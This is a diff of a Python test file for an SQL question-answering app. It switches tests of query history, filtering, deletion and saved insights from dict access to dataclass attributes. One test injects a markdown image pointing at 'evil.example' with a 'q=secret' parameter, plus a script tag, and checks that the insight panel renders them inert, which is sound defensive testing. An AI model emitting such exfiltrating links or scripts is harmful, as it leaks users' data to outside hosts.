@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+from dataclasses import asdict, replace
+
 import pytest
 
 from lumiere.core.engine import CannotAnswer
+from lumiere.core.enums import Engine, QueryOrigin, QueryStatus
 from lumiere.db import session_scope
 from lumiere.services import ask, history, insights, sources
 from lumiere.services.auth import issue_token, register_user
+from lumiere.services.history import HistoryEntry
 from lumiere.state.arguments import INVALID_LINK, MAX_LABEL_CHARS, NOT_A_PAGE
 from lumiere.state.history import HistoryState, history_row
 from lumiere.state.insights import InsightsState
@@ -35,23 +39,23 @@ def test_filters_search_status_and_source(asked):
     _, token, ids = asked
     state = page_state(HistoryState, token, "/history")
     settled(state.load())
-    assert state.total == 3 and [item["status"] for item in state.items] == ["error", "ok", "ok"]
-    assert {item["id"]: item["name"] for item in state.filter_sources} == {
+    assert state.total == 3 and [item.status for item in state.items] == ["error", "ok", "ok"]
+    assert {item.id: item.name for item in state.filter_sources} == {
         str(ids["first"]): "gapminder",
         str(ids["second"]): "gapminder",
     }
 
     settled(state.set_search("CONTINENT"))
-    assert [item["id"] for item in state.items] == [str(ids["good"])]
+    assert [item.id for item in state.items] == [str(ids["good"])]
     settled(state.set_search("group by"))  # matches the SQL, not the question
-    assert [item["id"] for item in state.items] == [str(ids["good"])]
+    assert [item.id for item in state.items] == [str(ids["good"])]
     settled(state.clear_filters())
     settled(state.set_status_filter("error"))
-    assert [item["status_label"] for item in state.items] == ["Failed"] and state.items[0]["error"]
+    assert [item.status_label for item in state.items] == ["Failed"] and state.items[0].error
     settled(state.set_status_filter("bogus"))
     assert state.status_filter == "all" and state.total == 3
     settled(state.set_source_filter(str(ids["second"])))
-    assert [item["id"] for item in state.items] == [str(ids["other"])]
+    assert [item.id for item in state.items] == [str(ids["other"])]
     assert state.filtered
     settled(state.set_date_from("2999-01-01"))
     assert state.items == [] and state.total == 0
@@ -65,9 +69,9 @@ def test_deleted_sources_are_named_and_entries_can_be_deleted(asked):
         sources.delete_source(session, user, ids["second"])
     state = page_state(HistoryState, token, "/history")
     settled(state.load())
-    gone = next(item for item in state.items if item["id"] == str(ids["other"]))
-    assert gone["source_gone"] == "gone" and gone["source_name"] == "gapminder"
-    assert str(ids["second"]) not in {item["id"] for item in state.filter_sources}
+    gone = next(item for item in state.items if item.id == str(ids["other"]))
+    assert gone.source_gone == "gone" and gone.source_name == "gapminder"
+    assert str(ids["second"]) not in {item.id for item in state.filter_sources}
 
     state.ask_delete(str(ids["good"]), "How many rows are there for each continent?")
     assert state.confirming_delete
@@ -75,27 +79,31 @@ def test_deleted_sources_are_named_and_entries_can_be_deleted(asked):
     assert state.total == 3
     state.ask_delete(str(ids["good"]), "How many rows are there for each continent?")
     settled(state.confirm_delete())
-    assert state.total == 2 and str(ids["good"]) not in {item["id"] for item in state.items}
+    assert state.total == 2 and str(ids["good"]) not in {item.id for item in state.items}
     assert f"'/query?rerun={ids['other']}'" in str(state.rerun(str(ids["other"])))
 
 
 def test_history_rows_read_as_text():
     row = history_row(
-        {
-            "id": 3,
-            "question": "",
-            "sql": "SELECT  1\n FROM t",
-            "status": "refused",
-            "error": "Only SELECT.",
-            "source_name": "s",
-            "source_exists": True,
-            "origin": "sql",
-            "row_count": None,
-            "duration_ms": 1234,
-            "created_at": "2025-03-01T14:05:09Z",
-        }
+        HistoryEntry(
+            id=3,
+            question="",
+            sql="SELECT  1\n FROM t",
+            status=QueryStatus.REFUSED,
+            error="Only SELECT.",
+            row_count=None,
+            duration_ms=1234,
+            source_id=1,
+            source_name="s",
+            engine=Engine.USER,
+            origin=QueryOrigin.SQL,
+            note=None,
+            chart=None,
+            created_at="2025-03-01T14:05:09Z",
+            source_exists=True,
+        )
     )
-    assert row == {
+    assert asdict(row) == {
         "id": "3",
         "question": "(SQL written by hand)",
         "sql": "SELECT 1 FROM t",
@@ -119,10 +127,10 @@ def test_saved_insights_list_unsave_and_delete(asked):
         insight_id = insight.id
     page = page_state(InsightsState, token, "/insights")
     settled(page.load())
-    assert [(item["id"], item["question"]) for item in page.saved_items] == [
+    assert [(item.id, item.question) for item in page.saved_items] == [
         (str(insight_id), "How many rows are there for each continent?")
     ]
-    assert "Africa" in page.saved_items[0]["text"]
+    assert "Africa" in page.saved_items[0].text
 
     settled(page.unsave(str(insight_id)))
     assert page.saved_items == []
@@ -143,7 +151,7 @@ def test_the_insight_panel_shows_text_inert_and_toggles_saved(asked):
     panel = page_state(QueryState, token, "/query")
     panel._prepare_insight(ids["good"])
     panel._show_insight(
-        {**insight, "text": insight["text"] + "\n\n![x](http://evil.example/?q=secret) <script>x</script>"}
+        replace(insight, text=insight.text + "\n\n![x](http://evil.example/?q=secret) <script>x</script>")
     )
     assert "![x](" not in panel.insight_text and "<script>" not in panel.insight_text
     assert "`http://evil.example/?q=secret`" in panel.insight_text
@@ -152,7 +160,7 @@ def test_the_insight_panel_shows_text_inert_and_toggles_saved(asked):
     settled(panel.toggle_insight_saved())
     assert panel.insight_saved
     with session_scope() as session:
-        assert [item.id for item in insights.list_insights(session, user, saved=True)] == [insight["id"]]
+        assert [item.id for item in insights.list_insights(session, user, saved=True)] == [insight.id]
     settled(panel.toggle_insight_saved())
     assert not panel.insight_saved
 
